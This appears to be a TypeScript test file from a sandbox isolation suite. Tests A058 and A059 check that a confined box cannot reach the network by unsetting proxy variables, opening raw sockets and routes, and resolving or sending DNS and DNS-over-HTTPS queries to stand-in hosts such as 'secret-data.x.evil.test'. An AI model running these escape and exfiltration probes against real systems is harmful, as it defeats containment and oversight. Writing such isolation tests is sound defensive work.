import { connect } from 'node:net'
import { expect, beforeAll, afterAll } from 'vitest'
import { attack } from './attack.ts'
import { openFarEnd, type FarEnd } from './far-end.ts'
import { python } from './probe.ts'
import { openStage, type Stage } from './stage.ts'

// No card, so no route: what holds whether or not a box has a channel to the gateway.

let stage: Stage
let far: FarEnd
beforeAll(async () => {
  stage = await openStage({ 'a.txt': 'a\n' })
  far = await openFarEnd()
})
afterAll(async () => {
  await far[Symbol.asyncDispose]()
  await stage[Symbol.asyncDispose]()
})

const connectTo = (host: string, port: number): string =>
  `unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY; ${python(
    `import socket\nsocket.create_connection((${JSON.stringify(host)}, ${port}), 3).close()`,
  )}`

attack(
  'A058 plain TCP past the proxy',
  'With every proxy variable unset, connect to documentation addresses on 443, to every address of this host, by raw sockets and packets.',
  async ({ saw }) => {
    // The far end can be reached from the host, or its silence would prove nothing.
    await new Promise((resolve) => connect(far.port, '127.0.0.1').on('close', resolve).resume())
    expect(far.seen).toHaveLength(1)
    const outside = ['192.0.2.1', '198.51.100.7', '203.0.113.9', '2001:db8::1']
    const answers = await stage.probe({
      ...Object.fromEntries(outside.map((host) => [`A058 ${host}`, connectTo(host, 443)])),
      ...Object.fromEntries(far.addresses.map((host) => [`A058 ${host}`, connectTo(host, far.port)])),
      'A058 raw socket': python(
        'import socket\nsocket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)',
      ),
      'A058 packet socket': python('import socket\nsocket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)'),
      'A058 a card of its own': 'ip link add d0 type dummy',
      'A058 a route': 'ip route add default dev lo',
      cards: 'cat /proc/net/dev | tail -n +3 | cut -d: -f1; tail -n +2 /proc/net/route',
    })
    saw(answers.refused('A058'))
    expect(answers.get('cards').out.trim()).toBe('lo')
    expect(far.seen).toHaveLength(1)
    saw('The box has no card but lo and no route; a server on every address of this host saw nothing.')
  },
)

attack(
  'A059 names and DNS',
  'Resolve names under .test by every resolver of the box, send UDP and TCP queries to every address of this host, and try DNS over HTTPS.',
  async ({ saw }) => {
    const before = far.seen.length
    const query = `b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x01x\\x04evil\\x04test\\x00\\x00\\x01\\x00\\x01"`
    const udp = (host: string, port: number): string =>
      python(
        `import socket\nfamily = socket.AF_INET6 if ":" in ${JSON.stringify(host)} else socket.AF_INET\ns = socket.socket(family, socket.SOCK_DGRAM)\ns.settimeout(1)\ns.sendto(${query}, (${JSON.stringify(host)}, ${port}))\ns.recvfrom(512)`,
      )
    const targets = [...far.addresses, '192.0.2.53']
    const answers = await stage.probe({
      'A059 getent': 'getent hosts x.evil.test',
      'A059 getent ahosts': 'getent ahosts secret-data.x.evil.test',
      'A059 node': `node -e 'require("dns").resolve("x.evil.test", e => process.exit(e ? 1 : 0))'`,
      'A059 python': python('import socket\nsocket.gethostbyname("x.evil.test")'),
      'A059 the engine’s resolver': udp('127.0.0.11', 53),
      ...Object.fromEntries(
        targets.map((host) => [`A059 udp ${host}`, udp(host, host === '192.0.2.53' ? 53 : far.port)]),
      ),
      'A059 https': `curl -sS --max-time 3 'https://dns.evil.test/dns-query?name=x.evil.test' || ${connectTo('192.0.2.53', 443)}`,
    })
    saw(answers.refused('A059'))
    expect(far.seen).toHaveLength(before)
    saw('The server of the test, on TCP and UDP of every address of this host, saw no query.')
  },
)
